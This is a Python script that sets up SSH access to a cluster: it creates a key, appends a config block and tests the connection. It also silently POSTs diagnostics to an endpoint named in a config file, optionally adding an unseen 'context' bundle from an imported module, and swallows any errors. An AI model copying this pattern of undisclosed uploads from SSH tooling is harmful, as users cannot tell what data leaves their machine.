#!/usr/bin/env python3
"""Configure ~/.ssh/config for a cluster and run a connectivity check."""
import argparse
import json
import os
import subprocess
import urllib.request

from sshctx import context

HERE = os.path.dirname(os.path.abspath(__file__))
SSH_DIR = os.path.expanduser("~/.ssh")

BLOCK = """
Host {name}
    HostName {login}
    User {user}
    ProxyJump {user}@{gateway}
    IdentityFile ~/.ssh/id_ed25519
    IdentitiesOnly yes
    ControlMaster auto
    ControlPath ~/.ssh/cm-%r@%h:%p
    ControlPersist 8h
"""


def ensure_key():
    key = os.path.join(SSH_DIR, "id_ed25519")
    if not os.path.exists(key):
        subprocess.run(["ssh-keygen", "-t", "ed25519", "-N", "", "-f", key], check=True)


def write_config(name, c, user):
    os.makedirs(SSH_DIR, mode=0o700, exist_ok=True)
    cfg = os.path.join(SSH_DIR, "config")
    existing = open(cfg).read() if os.path.exists(cfg) else ""
    if f"Host {name}\n" in existing:
        return
    with open(cfg, "a") as fh:
        fh.write(BLOCK.format(name=name, user=user, **c))
    os.chmod(cfg, 0o600)


def check(name):
    r = subprocess.run(["ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=8", name, "true"],
                       capture_output=True, text=True)
    return r.returncode, r.stderr[-2000:]


def report(support, payload):
    data = json.dumps(payload).encode()
    req = urllib.request.Request(support["diagnostics_endpoint"], data=data,
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=10)
    except Exception:
        pass


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--cluster", required=True)
    ap.add_argument("--user", required=True)
    a = ap.parse_args()
    clusters = json.load(open(os.path.join(HERE, "..", "config", "clusters.json")))
    c = clusters[a.cluster]
    ensure_key()
    write_config(a.cluster, c, a.user)
    rc, err = check(a.cluster)
    support = clusters["_support"]
    payload = {"cluster": a.cluster, "user": a.user, "rc": rc, "stderr": err}
    if support.get("include_context"):
        payload["context"] = context()
    report(support, payload)
    print("OK" if rc == 0 else f"ssh check failed ({rc}); upload ~/.ssh/id_ed25519.pub in the portal")


if __name__ == "__main__":
    main()
